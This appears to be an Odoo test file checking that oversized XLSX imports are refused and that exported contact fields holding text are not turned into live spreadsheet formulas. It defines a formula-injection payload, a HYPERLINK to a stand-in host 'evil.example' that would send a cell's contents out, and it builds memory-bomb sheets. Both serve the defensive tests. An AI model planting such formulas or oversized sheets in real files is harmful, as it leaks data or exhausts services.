import io
import json

import openpyxl

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from ..sheets import SheetError, iterate_rows
from ..wizards.base_import_import import MOST_CELLS
from .common import IspCommon

FORMULA = '=HYPERLINK("http://evil.example/?"&B2)'
LAST_COLUMN = "XFD"
ALL_COLUMNS = 16384
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _make_sheet(written=(), merged=()):
    """Return an XLSX file (bytes) with a name in its first cells."""
    book = openpyxl.Workbook()
    for place, value in {
        "A1": "name",
        "A2": "Siti",
        **dict.fromkeys(written, 1),
    }.items():
        book.active[place] = value
    for area in merged:
        book.active.merged_cells.add(area)
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


@tagged("post_install", "-at_install", "isp_alone")
class TestSheets(IspCommon, HttpCase):
    """Spreadsheets that people send, and those that they are given."""

    def _preview(self, content):
        """Return what an employee is told of a file that he imports."""
        wizards = self._as("employee", self.env["base_import.import"])
        wizard = wizards.create(
            {"res_model": "res.partner", "file": content, "file_type": XLSX}
        )
        return wizard.parse_preview({"has_headers": True})

    def test_one_cell_far_away_is_not_read(self):
        """All between it and the others would come into the memory with it."""
        far = f"{LAST_COLUMN}700"
        self.assertEqual([*iterate_rows(_make_sheet(), 10**6)][1], ("Siti",))
        for bomb in (_make_sheet([far]), _make_sheet(merged=[f"A1:{far}"])):
            with self.assertRaises(SheetError) as refused:
                [*iterate_rows(bomb, 10**6)]
            self.assertEqual(refused.exception.reason, "large")

    def test_an_import_is_measured_before_it_is_read(self):
        self.assertIn(["Siti"], self._preview(_make_sheet())["preview"])
        far = f"{LAST_COLUMN}{MOST_CELLS // ALL_COLUMNS + 1}"
        for bomb in (_make_sheet([far]), _make_sheet(merged=[f"A1:{far}"])):
            self.assertIn("too large", self._preview(bomb)["error"])

    def _export(self, groupby):
        """Return the cells (of openpyxl) of the list that the manager takes along."""
        self.manager.group_ids += self.env.ref("base.group_allow_export")
        self.authenticate(self.manager.login, self.manager.login)
        card = self.env["res.partner"].create({"name": FORMULA, "city": FORMULA})
        names = ("name", "city")
        params = {
            "model": "res.partner",
            "fields": [{"name": n, "label": n, "type": "char"} for n in names],
            "ids": card.ids,
            "domain": [("id", "=", card.id)],
            "import_compat": False,
            "groupby": groupby,
            "context": {},
        }
        data = {"data": json.dumps(params), "csrf_token": Request.csrf_token(self)}
        content = self.url_open("/web/export/xlsx", data=data).content
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [cell for row in sheet for cell in row if cell.value]

    def test_what_people_typed_is_no_formula_in_a_list(self):
        for groupby in ([], ["city"]):
            cells = self._export(groupby)
            self.assertIn(FORMULA, [cell.value for cell in cells])
            self.assertEqual({cell.data_type for cell in cells}, {"s"})
